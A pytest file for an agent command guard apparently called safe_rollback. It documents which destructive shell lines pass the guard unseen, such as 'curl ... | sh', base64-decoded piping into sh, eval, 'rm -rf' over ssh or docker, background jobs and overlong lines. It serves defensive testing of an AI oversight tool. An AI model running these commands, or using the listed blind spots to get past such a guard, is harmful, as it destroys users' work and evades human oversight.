"""What a static guard cannot see: every risk that `docs/residual-risks.md` accepts, shown.

A test that fails here has good news: the risk is smaller. Then the document changes with it.
"""

import os
import re

import pytest

from safe_rollback.core.actions import under_way
from safe_rollback.core.ledger.events import ActionRecorded, CheckpointTaken
from safe_rollback.core.revert.ownership import agent_content
from safe_rollback.core.session import active_session
from safe_rollback.core.snapshot.take import find
from safe_rollback.core.workspace import Workspace
from safe_rollback.policies import guard
from safe_rollback.policies.gitcontext import context_of
from safe_rollback.policies.hook import HookEvent
from safe_rollback.policies.shell.analysis import analyse
from safe_rollback.server.clients import CLIENTS
from safe_rollback.server.clients.client import JsonFile
from safe_rollback.server.hooksocket import SECONDS
from safe_rollback.tools.desk import Desk
from safe_rollback.tools.start_session import start_session
from tests.harness.repo import Repo
from tests.policies.near import Agent

DOCUMENT = os.path.join(os.path.dirname(__file__), *[os.pardir] * 3, "docs", "residual-risks.md")
SECTION = "What a static guard cannot see"

# The risk as the document names it; lines that pass though they may destroy something; what is seen of them.
LINES: dict[str, list[tuple[str, set[str]]]] = {
    "Scripts run by path": [
        ("./clean.sh", {"unknown"}),
        ("bash clean.sh", {"unknown"}),
        (". ./clean.sh", {"unknown"}),
        ("make clean", {"unknown"}),
        ("npm test", {"unknown"}),
        ("python3 clean.py", {"unknown"}),
        ("python3 -m clean", {"unknown"}),
        ("uv run clean.py", {"unknown"}),
        ("git bisect run ./clean.sh", {"head.move", "unknown"}),
    ],
    "Names computed at run time": [
        ("$CMD --hard", {"unknown"}),
        ("$GIT reset --hard", {"unknown"}),
        ("git $SUB --hard", {"unknown"}),
        ('eval "$(cat plan)"', {"unknown"}),
        ("base64 -d < plan | sh", {"unknown"}),
        ("curl -s https://example.com/x | sh", {"unknown"}),
        ("rm $(cat plan)", {"unknown"}),
        ("rm $NAME", {"unknown"}),
    ],
    "Code an interpreter loads": [
        ('python3 -c "import clean"', {"unknown"}),
        ("python3 -c \"exec(open('clean.py').read())\"", {"unknown"}),
        ('python3 -c "exec(chr(111) + chr(115))"', {"unknown"}),
        ("lua -e \"os.remove('README.md')\"", {"unknown"}),
        ("Rscript -e \"unlink('src', recursive = TRUE)\"", {"unknown"}),
        ("julia -e 'rm(\"src\", recursive = true)'", {"unknown"}),
    ],
    "Programs that are not known": [
        ("vim -es -c '%d' -c wq README.md", {"unknown"}),
        ("ed README.md < plan", {"unknown"}),
        ("some-program README.md", {"unknown"}),
    ],
    "Contents of patches and archives": [
        ("git apply changes.patch", {"file.write"}),
        ("patch -p1 < changes.patch", {"file.write"}),
        ("tar xf files.tar", {"unknown"}),
        ("unzip -o files.zip", {"unknown"}),
    ],
    "Other machines and containers": [
        ("ssh host 'rm -rf project'", {"unknown"}),
        ('docker run -v "$PWD:/work" image rm -rf /work/src', {"unknown"}),
    ],
    "A line of more than 128 KiB": [("git reset --hard #" + "x" * (128 << 10), {"unknown"})],
    "Background processes": [
        ("nohup ./clean.sh &", {"unknown"}),
        ("screen -dm ./clean.sh", {"unknown"}),
        ("at now + 1 minute -f clean.sh", {"unknown"}),
    ],
}
# Those that a line alone does not show; each has a test below.
STATES = {
    "Background processes",
    "Deletions of what a checkpoint cannot hold",
    "Files whose blob differs from their bytes",
    "Parallel actions of one worktree",
    "A hook process killed by the client",
}


def test_the_document_names_these_risks_and_no_others() -> None:
    with open(DOCUMENT, encoding="utf-8") as file:
        section = file.read().split(f"## {SECTION}\n")[1].split("\n## ")[0]
    named = re.findall(r"^- \*\*(.+?)\*\*", section, re.MULTILINE)
    assert sorted(named) == sorted({*LINES, *STATES})
    assert len(named) == section.count("\n- ")


@pytest.fixture
def agent(repo: Repo, workspace: Workspace) -> Agent:
    """Where scripts that destroy are at hand, and a human's uncommitted work that they would take."""
    destroy = "git reset --hard; git clean -fdx; rm -rf src\n"
    python = "import shutil\nshutil.rmtree('src')\n"
    scripts = {"clean.sh": f"#!/bin/sh\n{destroy}", "clean.py": python, "plan": "README.md\n"}
    repo.commit("Scripts", {**scripts, "Makefile": f"clean:\n\t{destroy}"})
    repo.write("README.md", "the human's\n")
    repo.write("src/new.txt", "the human's\n")
    return Agent(repo, workspace)


@pytest.mark.parametrize(
    ("line", "seen"), [pytest.param(*one, id=one[0][:60]) for rows in LINES.values() for one in rows]
)
def test_this_passes_after_a_checkpoint(
    repo: Repo, workspace: Workspace, agent: Agent, line: str, seen: set[str]
) -> None:
    effects = {one.effect for one in analyse(line, context_of(workspace))} - {"state.read"}
    assert (agent.ask(line).decision, effects) == ("pass", seen)
    (action,) = under_way(workspace)
    held = workspace.repository.git.out("ls-tree", "-r", "--name-only", find(workspace, action.before).worktree)  # type: ignore[arg-type]
    assert {"README.md", "src/new.txt"} <= set(held.splitlines())


def _own(workspace: Workspace) -> set[str]:
    return set(agent_content(workspace, active_session(workspace)))


def test_what_a_background_process_does_later_counts_as_the_humans(repo: Repo, workspace: Workspace) -> None:
    start_session(Desk(workspace), "A task")
    agent = Agent(repo, workspace)
    agent.run("echo now > now.txt")
    repo.write("later.txt", "by what it left running\n")
    agent.run("echo then > then.txt")
    assert _own(workspace) == {"now.txt", "then.txt"}


def test_an_ignored_file_that_a_script_deletes_is_gone(repo: Repo, workspace: Workspace, agent: Agent) -> None:
    repo.commit("Ignore", {".gitignore": "data/\n", "clean.sh": "#!/bin/sh\nrm -rf data\n"})
    repo.write("data/collected.csv", "months of it\n")
    assert agent.ask("rm -rf data").decision == "deny"
    assert agent.run("sh clean.sh").decision == "pass"
    assert not repo.exists("data")
    for record in workspace.ledger.records(CheckpointTaken):
        commit = record.event.commit  # type: ignore[union-attr]
        assert "collected.csv" not in workspace.repository.git.out("ls-tree", "-r", "--name-only", commit)


def test_a_committed_file_that_git_converts_cannot_be_deleted_by_directory(
    repo: Repo, workspace: Workspace, agent: Agent
) -> None:
    repo.commit(
        "Convert", {".gitattributes": "*.bat text eol=crlf\n", "win/run.bat": "echo\r\n", "nix/run": "echo\n"}
    )
    assert repo.git("status", "--porcelain", "win", "nix") == ""
    assert agent.ask("rm -rf nix").decision == "pass"
    assert agent.ask("rm -rf win").decision == "deny"


def test_of_two_actions_at_once_neither_gets_what_neither_named(repo: Repo, workspace: Workspace) -> None:
    one, two = Agent(repo, workspace, "one"), Agent(repo, workspace, "two")
    one.ask("make a", call="a")
    two.ask("make b", call="b")
    repo.write("whose.txt", "x\n")
    for name, call in (("one", "a"), ("two", "b")):
        line = f"make {call}"
        ended = HookEvent(
            moment="after", cwd=repo.root, kind="shell", tool="Bash", command=line, call=call, agent=name
        )
        guard.answer(ended, workspace)
    events = [record.event for record in workspace.ledger.records(ActionRecorded)]
    assert [list(event.paths) for event in events if isinstance(event, ActionRecorded)] == [[], []]
    # Both are agents', so it is no human's; but which agent's, no record says.
    assert _own(workspace) == {"whose.txt"}


def test_the_program_answers_before_any_client_gives_up_on_it() -> None:
    limits = []
    for client in CLIENTS:
        for file in client.files:
            for entry in file.entries if isinstance(file, JsonFile) else ():
                handlers = entry.value.get("hooks", [entry.value]) if entry.path[0] == "hooks" else []
                limits += [
                    (client.name, one["timeout"] / (1000 if client.name == "gemini" else 1)) for one in handlers
                ]
    assert len(limits) > 20
    assert [name for name, seconds in limits if seconds < SECONDS + 10] == []
